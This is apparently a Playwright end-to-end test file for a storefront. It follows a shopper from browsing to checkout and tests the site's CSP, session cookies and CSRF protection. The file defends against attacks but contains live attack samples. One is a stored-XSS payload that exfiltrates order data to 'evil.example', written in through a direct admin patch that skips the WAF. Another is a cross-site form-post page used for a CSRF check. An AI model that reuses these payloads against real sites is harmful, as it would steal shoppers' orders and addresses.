"""A guest's whole visit to the storefront, in a real Chromium against the whole local stack.

The module starts ``python -m localcloud up`` on a free port under its own stage, publishes the
storefront into that stage's static-site bucket with ``python -m storefront.publish``, and drives
Debian's chromium with Playwright through one journey, one test per step, in order: home,
category, product page, search with a typo, add to cart, sign-up (the guest cart is merged),
checkout, order history after signing in again. Each step keeps a screenshot in
``artifacts/screenshots/``. A step whose service is not there yet (search) is skipped, naming it.

Under the edge's Content-Security-Policy (issue 22): every answer of the shop's origin carries it,
and no step causes a violation, seen three ways: the page's ``securitypolicyviolation`` events, the
browser console, and the reports the edge counts at ``/_edge/csp-reports``. The last step injects a
script and a style attribute and checks that neither takes effect and that the edge counts them.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from stack_support import Stack

from localcloud import state

REPO = Path(__file__).resolve().parents[2]
SCREENSHOTS = REPO / "artifacts" / "screenshots"
CHROMIUM = Path(os.environ.get("SHOP_CHROMIUM", "/usr/bin/chromium"))
CHROMIUM_ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update",
    "--disable-sync", "--no-first-run", "--disable-quic",
]  # fmt: skip
PASSWORD = "Journey-Shopper-1"
SCRIPT_ERRORS: list[str] = []  # uncaught errors of the page's scripts, checked after every step
CSP_CONSOLE: list[str] = []  # the console's "Refused to ..." lines: CSP violations of any document, checked too
RESPONSES: list[Any] = []  # every answer of the shop's origin, checked for the CSP header after each step
CSP_REPORTS = "/_edge/csp-reports"
REPORTS_BEFORE: list[int] = []  # the edge's report count before the journey (a reused stack may hold older ones)
# Runs before the page's own scripts in every document (Playwright injects it outside the page's CSP).
VIOLATION_LISTENER = """
window.__cspViolations = [];
document.addEventListener('securitypolicyviolation', (e) => window.__cspViolations.push(
  `${e.effectiveDirective} blocked ${e.blockedURI || 'inline'} in ${e.sourceFile || e.documentURI}:${e.lineNumber}`));
"""

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(300),  # the first step also waits for the shared stack to start
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no Chromium at {CHROMIUM} (.ci/run installs Debian's chromium)"),
]
playwright_sync = pytest.importorskip(
    "playwright.sync_api", reason="the playwright package is not installed (pip install playwright; no browser fetch)"
)


# --------------------------------------------------------------------------- the stack and the browser


@pytest.fixture(scope="module")
def shop(request: pytest.FixtureRequest) -> Stack:
    """The e2e lane's shared stack (tests/e2e/conftest.py), with the storefront published into it.

    ``SHOP_STOREFRONT_STAGE=<stage>`` uses the running stack of that stage instead (quicker while
    working on the shop; the journey signs up a fresh user, so it can run again and again).
    """
    reuse = os.environ.get("SHOP_STOREFRONT_STAGE")
    if reuse:
        env = state.read(reuse)
        assert env, f"no running stack of stage {reuse}"
        stack = Stack(env["SHOP_FRONT_DOOR_URL"], env, None, [])
    else:
        stack = request.getfixturevalue("shared_stack")
    published = subprocess.run(
        [sys.executable, "-m", "storefront.publish"], env=os.environ | {"SHOP_STAGE": stack.env["SHOP_STAGE"]},
        cwd=REPO, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert published.returncode == 0, published.stderr
    print(published.stdout.strip())
    return stack


@pytest.fixture(scope="module")
def page(shop: Stack) -> Iterator[Any]:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with playwright_sync.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        context = browser.new_context(base_url=shop.url, viewport={"width": 1280, "height": 900}, locale="en-US")
        context.set_default_timeout(15_000)
        _serve_static_site_unless_the_front_door_does(context, shop)
        REPORTS_BEFORE.append(csp_reports(shop)["count"])
        context.add_init_script(VIOLATION_LISTENER)
        tab = context.new_page()
        tab.on("pageerror", lambda exc: SCRIPT_ERRORS.append(str(exc)))
        tab.on("console", lambda msg: _note_csp_console(msg.text))
        tab.on("response", lambda r: _note_response(shop, r))
        yield tab
        context.close()
        browser.close()


def _note_csp_console(text: str) -> None:
    if text.startswith("Refused to") and "Content Security Policy" in text:
        CSP_CONSOLE.append(text)


def _note_response(shop: Stack, response: Any) -> None:
    if response.url.startswith(shop.url) and not response.url.startswith(f"{shop.url}{CSP_REPORTS}"):
        RESPONSES.append(response)


def csp_reports(shop: Stack) -> dict[str, Any]:
    import httpx

    return httpx.get(f"{shop.url}{CSP_REPORTS}", timeout=10).json()


def _serve_static_site_unless_the_front_door_does(context: Any, shop: Stack) -> None:
    """Until the front door serves the static-site bucket (the edge issue), answer its part here.

    Requests outside ``/api`` and ``/media`` are answered from the same bucket the front door
    will read, with the object's own Content-Type, and index.html for any other path (the SPA
    fallback CloudFront does with a custom error response). Nothing is answered that was not
    published.
    """
    import httpx

    answer = httpx.get(f"{shop.url}/", timeout=10)
    if answer.status_code == 200 and answer.headers.get("content-type", "").startswith("text/html"):
        return
    import boto3

    stage_env = shop.env
    s3 = boto3.client(
        "s3", endpoint_url=stage_env["AWS_ENDPOINT_URL"], region_name=stage_env["AWS_REGION"],
        aws_access_key_id=stage_env["AWS_ACCESS_KEY_ID"], aws_secret_access_key=stage_env["AWS_SECRET_ACCESS_KEY"],
    )  # fmt: skip
    bucket = f"shop-{stage_env['SHOP_STAGE']}-static-site"

    def from_bucket(route: Any) -> None:
        path = route.request.url.split(shop.url, 1)[1].split("?", 1)[0]
        if path.startswith(("/api/", "/media/", "/healthz")):
            route.fallback()
            return
        key = path.lstrip("/")
        try:
            obj = s3.get_object(Bucket=bucket, Key=key or "index.html")
        except s3.exceptions.NoSuchKey:
            obj = s3.get_object(Bucket=bucket, Key="index.html")
        headers = {"Content-Type": obj["ContentType"], "Cache-Control": obj.get("CacheControl", "no-cache")}
        route.fulfill(status=200, headers=headers, body=obj["Body"].read())

    context.route(f"{shop.url}/**", from_bucket)


# --------------------------------------------------------------------------- journey bookkeeping


class Journey:
    """What earlier steps left for later ones; a step whose prerequisite did not happen is skipped."""

    def __init__(self) -> None:
        self.done: dict[str, Any] = {}
        self.started = time.monotonic()

    def needs(self, *steps: str) -> None:
        missing = [s for s in steps if s not in self.done]
        if missing:
            pytest.skip(f"needs the earlier step(s) {', '.join(missing)}")


@pytest.fixture(scope="module")
def journey() -> Journey:
    return Journey()


def shot(page: Any, name: str) -> Path:
    target = SCREENSHOTS / f"storefront-{name}.png"
    page.screenshot(path=str(target), full_page=True)
    return target


def assert_csp_holds(page: Any) -> None:
    """Every answer so far carried the CSP, and no document of the journey violated it."""
    while RESPONSES:
        response = RESPONSES.pop()
        policy = response.all_headers().get("content-security-policy", "")
        assert "script-src 'self'" in policy, f"{response.url} ({response.status}) came without the CSP"
    assert page.evaluate("window.__cspViolations") == []
    assert CSP_CONSOLE == []


def assert_accessible_basics(page: Any) -> None:
    """Every form control has a label, every image an alt attribute, one h1, and no script error so far."""
    problems = page.evaluate(
        """() => {
          const out = [];
          for (const el of document.querySelectorAll('input:not([type=hidden]), select, textarea')) {
            const labelled = el.labels?.length || el.getAttribute('aria-label') || el.getAttribute('aria-labelledby');
            if (!labelled) out.push(`unlabelled ${el.tagName.toLowerCase()} ${el.name || el.id}`);
          }
          for (const img of document.querySelectorAll('img')) {
            if (!img.hasAttribute('alt')) out.push(`img without alt ${img.src}`);
          }
          const h1s = document.querySelectorAll('main h1').length;
          if (h1s !== 1) out.push(`${h1s} h1 elements in main`);
          return out;
        }"""
    )
    assert problems == []
    assert SCRIPT_ERRORS == []
    assert_csp_holds(page)


def settled(page: Any) -> None:
    """Wait until the view being rendered is on screen (the router marks main busy meanwhile)."""
    expect(page.locator("main")).not_to_have_attribute("aria-busy", "true")


def expect(locator: Any) -> Any:
    return playwright_sync.expect(locator)


# --------------------------------------------------------------------------- the steps, in order


def test_a_guest_sees_the_home_page_with_departments_and_products(page, journey):
    page.goto("/")
    expect(page.locator("main h1")).to_contain_text("Everything for home")
    expect(page.locator("#category-nav a")).to_have_count(12)
    expect(page.locator("main .grid .card").first).to_be_visible()
    expect(page.locator("#cart-count")).to_have_text("0")
    weight = page.evaluate(
        """() => {
          const entries = [performance.getEntriesByType('navigation')[0], ...performance.getEntriesByType('resource')];
          const own = entries.filter((e) => !e.name.includes('/api/') && !e.name.includes('/media/'));
          const nav = performance.getEntriesByType('navigation')[0];
          return {requests: own.length, bytes: own.reduce((n, e) => n + (e.decodedBodySize || 0), 0),
                  dom_content_loaded_ms: Math.round(nav.domContentLoadedEventEnd)};
        }"""
    )
    (REPO / "artifacts" / "storefront-home-weight.json").write_text(json.dumps(weight, indent=2))
    print(f"home page: {weight}")
    assert_accessible_basics(page)
    shot(page, "01-home")
    journey.done["home"] = True


def test_the_keyboard_reaches_the_skip_link_first_and_it_moves_focus_to_the_content(page, journey):
    journey.needs("home")
    page.locator("body").focus()
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"


def test_a_guest_browses_a_category_sorted_by_price(page, journey):
    journey.needs("home")
    page.get_by_role("navigation", name="Categories").get_by_role("link", name="Kitchen & Dining").click()
    expect(page.locator("main h1")).to_have_text("Kitchen & Dining")
    expect(page.locator("main .grid .card")).to_have_count(24)
    page.get_by_label("Sort by").select_option("price")
    expect(page).to_have_url("/c/kitchen?sort=price&page=1")
    settled(page)
    prices = page.locator("main .grid .price").all_inner_texts()
    values = [float(p.replace("$", "").replace(",", "")) for p in prices]
    assert values == sorted(values)
    assert all(p.startswith("$") and "." in p for p in prices)  # minor units shown as dollars and cents
    assert_accessible_basics(page)
    shot(page, "02-category")
    journey.done["category"] = True


def test_a_guest_opens_a_product_with_its_image_and_what_is_bought_together(page, journey):
    journey.needs("category")
    first = page.locator("main .grid .card-link").first
    name = first.locator(".card-name").inner_text()
    first.click()
    expect(page.locator("main h1")).to_have_text(name)
    image = page.get_by_role("img", name=name)
    expect(image).to_be_visible()
    page.wait_for_function("img => img.complete && img.naturalWidth > 0", arg=image.element_handle())
    expect(page.locator("#bought-together h2")).to_be_visible()
    expect(page.locator("#bought-together .card").first).to_be_visible()
    assert_accessible_basics(page)
    shot(page, "03-product")
    journey.done["product"] = page.url


def test_a_guest_searches_with_a_typo_and_finds_skillets(page, journey):
    journey.needs("home")
    box = page.get_by_role("combobox", name="Search products")
    probe = page.request.get("/api/search?q=")
    if probe.status != 200:
        box.fill("skilet")
        box.press("Enter")
        expect(page.get_by_text("Search is not available right now")).to_be_visible()
        shot(page, "04-search-unavailable")
        pytest.skip(f"the search service is not running in this stack (/api/search: {probe.status}); the page says so")
    if probe.json().get("total") == 0:
        pytest.skip("the search index of this stack is empty (the catalog is not indexed at start yet)")
    box.press_sequentially("skil", delay=30)
    expect(page.get_by_role("listbox", name="Suggestions").get_by_role("option").first).to_contain_text("Skillet")
    expect(box).to_have_attribute("aria-expanded", "true")
    box.press("ArrowDown")
    expect(box).to_have_attribute("aria-activedescendant", "suggestion-0")
    box.press("Escape")
    expect(box).to_have_attribute("aria-expanded", "false")
    box.press_sequentially("et", delay=30)
    box.press("Enter")
    expect(page.locator("main h1")).to_have_text("Results for “skilet”")
    settled(page)
    results = page.locator("main .grid .card")
    expect(results.first).to_contain_text("Skillet")
    facets = page.get_by_role("form", name="Filter results")
    facets.get_by_role("checkbox", name=re.compile(r"^Kitchen & Dining")).check()
    expect(page).to_have_url(re.compile(r"category=kitchen"))
    settled(page)
    names = page.locator("main .grid .card-name").all_inner_texts()
    assert names
    assert all("skillet" in n.lower() or "skil" in n.lower() for n in names[:5]), names
    assert_accessible_basics(page)
    shot(page, "04-search")
    results.first.locator("a").click()
    expect(page.locator("main h1")).to_contain_text("Skillet")
    journey.done["search"] = page.url


def test_a_guest_adds_two_to_the_cart_and_the_badge_says_so(page, journey):
    journey.needs("product")
    product_url = journey.done.get("search") or journey.done["product"]
    page.goto(product_url)
    name = page.locator("main h1").inner_text()
    page.get_by_label("Quantity").fill("2")
    page.get_by_role("button", name="Add to cart").click()
    expect(page.locator(".add-status")).to_contain_text(f"Added 2 × {name}")
    expect(page.locator("#cart-count")).to_have_text("2")
    expect(page.locator("#announcer")).to_have_text("Added 2 to your cart")
    page.get_by_role("link", name="Cart, 2 items").click()
    expect(page.locator("main h1")).to_have_text("Your cart")
    expect(page.locator(".cart-line")).to_have_count(1)
    expect(page.locator(".cart-line")).to_contain_text(name)
    assert_accessible_basics(page)
    shot(page, "05-cart")
    journey.done["cart"] = name


def test_a_guest_signs_up_sees_a_weak_password_named_and_keeps_the_cart(page, journey):
    journey.needs("cart")
    page.get_by_role("link", name="Sign in to check out").click()
    expect(page.locator("main h1")).to_have_text("Sign in")
    page.get_by_role("link", name="Create an account").click()
    email = f"journey-{uuid.uuid4().hex[:10]}@example.com"
    page.get_by_label("E-mail").fill(email)
    page.get_by_label("Password").fill("short")
    page.get_by_role("button", name="Create account").click()
    expect(page.locator(".form-error")).to_contain_text("at least 10 characters")
    expect(page.get_by_label("Password")).to_have_attribute("aria-invalid", "true")
    assert_accessible_basics(page)
    shot(page, "06-signup-error")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Create account").click()
    expect(page.locator("main h1")).to_have_text("Checkout")  # signed in, on to where the guest was going
    expect(page.locator(".order-summary")).to_contain_text(f"2 × {journey.done['cart']}")  # the guest cart, merged
    expect(page.locator("#cart-count")).to_have_text("2")
    assert page.evaluate("localStorage.getItem('shop.cartSession')") is None  # the guest session ended
    journey.done["signup"] = email


def test_a_signed_in_shopper_checks_out_and_sees_the_confirmation(page, journey):
    journey.needs("signup")
    page.get_by_label("Full name").fill("Ada Lovelace")
    page.get_by_label("Address", exact=True).fill("12 Analytical Row")
    page.get_by_label("City").fill("Berlin")
    page.get_by_label("Postal code").fill("10115")
    page.get_by_label("Country").select_option("DE")
    expect(page.get_by_label("Test card, always approved")).to_be_checked()
    assert_accessible_basics(page)
    shot(page, "07-checkout")
    page.get_by_label("Test card, always declined").check()
    page.get_by_role("button", name="Place order").click()
    expect(page.locator(".checkout-form .form-error")).to_contain_text("The card was declined", timeout=30_000)
    shot(page, "07-checkout-declined")
    page.get_by_label("Test card, always approved").check()  # a changed form is a new attempt: a new key
    page.get_by_role("button", name="Place order").click()
    confirmation = page.get_by_test_id("confirmation")
    error = page.locator(".checkout-form .form-error")
    expect(confirmation.or_(error)).to_be_visible(timeout=30_000)
    if error.is_visible():
        shot(page, "07-checkout-refused")
        pytest.fail(f"checkout refused: {error.inner_text()}")
    expect(confirmation).to_contain_text("Thank you! Your order is placed.")
    expect(page.locator("main h1")).to_contain_text("Order ")
    expect(page.locator("#cart-count")).to_have_text("0")
    assert_accessible_basics(page)
    shot(page, "08-order-confirmation")
    journey.done["order"] = page.url.split("/orders/", 1)[1].split("?", 1)[0]


def test_no_token_is_reachable_from_javascript_while_signed_in(page, journey):
    """The gateway keeps the tokens (issue 22): the page holds an HttpOnly session cookie and nothing else."""
    journey.needs("signup")
    held = page.evaluate(
        """() => ({cookie: document.cookie, local: JSON.stringify(localStorage),
                   session: JSON.stringify(sessionStorage)})"""
    )
    for where, text in held.items():
        assert "eyJ" not in text, f"{where} holds a JWT: {text[:200]}"
        assert "token" not in text.lower(), f"{where} names a token: {text[:200]}"
    assert "shop-session" not in held["cookie"]
    assert "shop-cart" not in held["cookie"]
    cookies = {c["name"]: c for c in page.context.cookies()}
    session = cookies["__Host-shop-session"]  # the session the journey is signed in with
    assert session["httpOnly"]
    assert session["secure"]
    assert session["sameSite"] in ("Lax", "Strict")
    assert session["path"] == "/"
    assert not session["domain"].startswith(".")
    assert "eyJ" not in session["value"]  # an opaque id, not a JWT
    me = page.evaluate("""async () => (await fetch('/api/session', {headers: {'X-Shop-CSRF': '1'}})).json()""")
    assert me["signed_in"] is True
    assert me["email"] == journey.done["signup"]
    assert set(me) == {"signed_in", "email", "groups", "guest_cart"}


def test_a_product_description_carrying_a_script_neither_runs_nor_calls_the_api_as_the_shopper(page, journey, shop):
    journey.needs("signup", "product")
    product_id = journey.done["product"].rsplit("/p/", 1)[1].split("?", 1)[0]
    payload = (
        "A fine pan.<script>window.__stolen = 1; fetch('/api/orders', {headers: {'X-Shop-CSRF': '1'}})"
        ".then((r) => r.text()).then((t) => fetch('http://evil.example/steal?' + encodeURIComponent(t)))</script>"
        "<img src=x onerror=\"window.__stolen = 2; fetch('/api/me/addresses')\">"
    )
    _as_admin_patch(shop, product_id, {"description": payload})  # stored XSS, written past the WAF at the service
    asked: list[str] = []
    listener = lambda r: asked.append(r.url)  # noqa: E731
    page.on("request", listener)
    try:
        page.goto(journey.done["product"])
        description = page.locator("main .description")
        expect(description).to_contain_text("<script>window.__stolen")  # shown as text, never parsed as HTML
        settled(page)
        page.wait_for_timeout(500)  # a payload would fire at once: give it the chance to show itself
    finally:
        page.remove_listener("request", listener)
    assert page.evaluate("() => window.__stolen") is None
    assert not [u for u in asked if "evil.example" in u or "/api/orders" in u or "/api/me/" in u], asked
    assert page.locator("main .description script, main .description img").count() == 0
    assert_csp_holds(page)


def test_a_cross_site_form_post_to_a_write_route_is_refused_with_a_403_problem(page, journey, shop):
    journey.needs("signup")
    before = page.locator("#cart-count").inner_text()
    page.context.route(
        "http://evil.example/**",
        lambda route: route.fulfill(status=200, content_type="text/html", body=(
            f'<form method="post" action="{shop.url}/api/cart/items">'
            '<input name="product_id" value="p-1"><input name="quantity" value="9">'
            '<button type="submit">Win a prize</button></form>')),
    )  # fmt: skip
    try:
        page.goto("http://evil.example/")
        with page.expect_response(f"{shop.url}/api/cart/items") as answered:
            page.get_by_role("button", name="Win a prize").click()
        response = answered.value
        assert response.status == 403
        problem = response.json()
        assert response.headers["content-type"] == "application/problem+json"
        assert problem["title"] == "Cross-site request refused", problem
    finally:
        page.context.unroute("http://evil.example/**")
    page.goto("/cart")
    expect(page.locator("#cart-count")).to_have_text(before)  # nothing was added for the shopper
    RESPONSES.clear()  # the evil page's own answers are not the shop's


def _as_admin_patch(shop: Stack, product_id: str, changes: dict[str, Any]) -> None:
    """Change a product as the catalog's admin would, straight at the catalog service (the gateway's identity
    headers, as on the cluster network): the WAF would refuse this body at the edge."""
    import httpx

    url = shop.env["SHOP_SERVICE_CATALOG_URL"].rstrip("/")
    answer = httpx.patch(
        f"{url}/catalog/products/{product_id}", json=changes, timeout=15,
        headers={"X-Shop-User": "e2e-admin", "X-Shop-Email": "admin@shop.example.com", "X-Shop-Groups": "admin"},
    )  # fmt: skip
    assert answer.status_code == 200, answer.text


def test_after_signing_in_again_the_order_is_in_the_history_and_its_detail(page, journey):
    journey.needs("order")
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("navigation", name="Account").get_by_role("link", name="Sign in")).to_be_visible()
    page.get_by_role("navigation", name="Account").get_by_role("link", name="Sign in").click()
    page.get_by_label("E-mail").fill(journey.done["signup"])
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("main h1")).to_contain_text("Everything for home")  # back where sign-in was started
    page.get_by_role("navigation", name="Account").get_by_role("link", name="Orders").click()
    expect(page.locator("main h1")).to_have_text("Your orders")
    rows = page.locator("table.orders tbody tr")
    expect(rows).to_have_count(2)  # newest first: the order placed, then the declined attempt, cancelled
    expect(rows.nth(1)).to_contain_text("Cancelled")
    assert_accessible_basics(page)
    shot(page, "09-order-history")
    rows.first.get_by_role("link").click()
    expect(page.locator("main")).to_contain_text(journey.done["order"])
    expect(page.locator("table.order-lines")).to_contain_text(journey.done["cart"])
    expect(page.locator("address")).to_contain_text("12 Analytical Row")
    assert_accessible_basics(page)
    shot(page, "10-order-detail")


def test_the_shop_fits_a_phone_screen(page, journey):
    journey.needs("product")
    page.set_viewport_size({"width": 390, "height": 844})
    page.goto(journey.done["product"])
    expect(page.locator("main h1")).to_be_visible()
    overflow = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
    assert overflow <= 0, f"the page scrolls sideways by {overflow}px on a phone"
    assert_csp_holds(page)
    shot(page, "11-phone-product")
    print(f"journey took {time.monotonic() - journey.started:.1f} s after the stack was up")


def test_the_journey_caused_no_csp_violation_and_an_injected_script_neither_runs_nor_goes_unreported(
    page, journey, shop
):
    journey.needs("home")
    reports_before = REPORTS_BEFORE[0]
    assert_csp_holds(page)
    assert csp_reports(shop)["count"] == reports_before, csp_reports(shop)["recent"]
    page.goto("/")
    expect(page.locator("main h1")).to_contain_text("Everything for home")
    # What a stored XSS would try: an inline script, an inline handler, a style attribute.
    page.evaluate(
        """() => {
          const s = document.createElement('script');
          s.textContent = 'window.__injected = true';
          document.head.append(s);
          const img = document.createElement('img');
          img.setAttribute('onerror', 'window.__handler = true');
          img.src = '/no-such-image.png';
          img.alt = '';
          document.body.append(img);
          document.querySelector('main h1').setAttribute('style', 'color: rgb(255, 0, 0)');
        }"""
    )
    # A function, not an expression: Playwright evals a bare expression in the page, which the CSP refuses.
    page.wait_for_function("() => window.__cspViolations.length >= 3")
    assert page.evaluate("[window.__injected, window.__handler]") == [None, None]
    assert page.evaluate("getComputedStyle(document.querySelector('main h1')).color") != "rgb(255, 0, 0)"
    deadline = time.monotonic() + 15
    while csp_reports(shop)["count"] < reports_before + 3 and time.monotonic() < deadline:
        page.wait_for_timeout(100)  # the browser posts its reports on its own schedule: poll with a deadline
    seen = csp_reports(shop)
    assert seen["count"] >= reports_before + 3, seen
    assert {"script-src-elem", "script-src-attr", "style-src-attr"} <= set(seen["by_directive"]), seen
